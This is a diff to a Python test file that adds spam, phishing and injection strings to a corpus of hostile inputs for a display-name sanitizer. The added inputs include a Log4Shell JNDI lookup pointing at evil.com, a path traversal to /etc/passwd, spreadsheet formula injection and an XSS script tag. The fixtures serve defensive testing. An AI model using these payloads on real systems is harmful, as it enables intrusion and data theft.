@@ -123,6 +123,41 @@ HOSTILE = [
     ("😀" * 500, ""),
     ("a " * 5_000, ("a " * 20).strip()),
     ("x.comma " * 2_000, "x. comma x. comma x. comma x. comma x. c"),
+    # What strangers have tried elsewhere.
+    ("Your bank: log in at evil-bank.com.de", "Your bank log in at"),
+    ("Pay now paypal.me/x", "Pay now"),
+    ("whatsapp: +49 151 23456789", ""),
+    ("wa.me/4915123456789", ""),
+    ("Bob (+49)151-234-567-89", "Bob"),
+    ("Tel 555-01-42-33", "Tel"),
+    ("STOP to 12345", "STOP to"),
+    ("Bob @evil_shop", "Bob evil shop"),
+    ("Ms. Smith.shop", "Ms."),
+    ("Anna-Maria.de", ""),
+    ("BOB.ONLINE", ""),
+    ("₿it.ly/x", ""),
+    ("evil𝟢.com", ""),
+    ("名前.jp", ""),
+    ("бот.рф/х", ""),
+    ("Bob̸.com", "Bob̸. com"),  # a stroke over the letter: taken apart
+    ("${jndi:ldap://evil.com/a}", ""),
+    ("{%if%}", "if"),
+    ("../../etc/passwd", "etc passwd"),
+    ("=1+1", "1 1"),
+    ("@SUM(1)", "SUM 1"),
+    ('"><script>alert(1)</script>', "script alert 1 script"),
+    ("localhost:8080", "localhost 8080"),
+    ("bitcoin:1A1zP1", "bitcoin 1A1zP1"),
+    ("mailto:a@b.c", ""),
+    ("evil%2Ecom", "evil 2Ecom"),
+    ("evil&period;com", "evil period com"),
+    ("https:/evil.com", ""),
+    ("HtTpS:\\\\evil.com", ""),
+    ("w w w . e v i l . c o m", ""),
+    ("Bob ﬀ.com", "Bob"),
+    ("a.b.c.d.com", ""),
+    ("①②③④⑤⑥⑦", ""),
+    ("x" * 39 + " {name}", "x" * 39),
 ]
 
 HONEST = [
@@ -189,7 +224,7 @@ def test_names_are_tidied(text: str, name: str) -> None:
 
 def test_the_corpus_is_large() -> None:
     """The corpus of hostile names covers what it is for."""
-    assert len(HOSTILE) >= 100
+    assert len({text for text, _ in HOSTILE}) >= 135
 
 
 @pytest.mark.parametrize(
